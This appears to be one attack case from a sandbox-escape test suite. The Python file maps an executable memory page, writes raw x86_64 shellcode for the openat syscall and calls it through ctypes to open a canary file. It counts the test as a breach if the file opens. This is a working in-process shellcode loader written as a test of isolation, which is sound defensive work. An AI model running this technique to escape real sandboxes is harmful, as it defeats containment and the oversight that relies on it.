"""Run machine code.

Attacks: nothing by itself: NumPy and numba need executable memory, so the wall may not depend on its absence.
How: write a function that calls getuid and openat of the canary straight from machine code.
Source: "shellcode in ctypes" as in any Metasploit loader for Python.
Breach: the file is opened.
"""

import ctypes
import mmap

GROUP, CONTROL, NEEDS = "kernel", True, "x86_64"
# mov eax,257; syscall; ret   with rdi=-100, rsi=path, rdx=0 as given
_OPEN = b"\xb8\x01\x01\x00\x00\x0f\x05\xc3"


def attack(outside):
    page = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    page.write(_OPEN)
    function = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_char_p, ctypes.c_long)(
        ctypes.addressof(ctypes.c_char.from_buffer(page))
    )
    answer = function(-100, outside.secret.encode(), 0)
    return f"opened as {answer}" if answer >= 0 else None
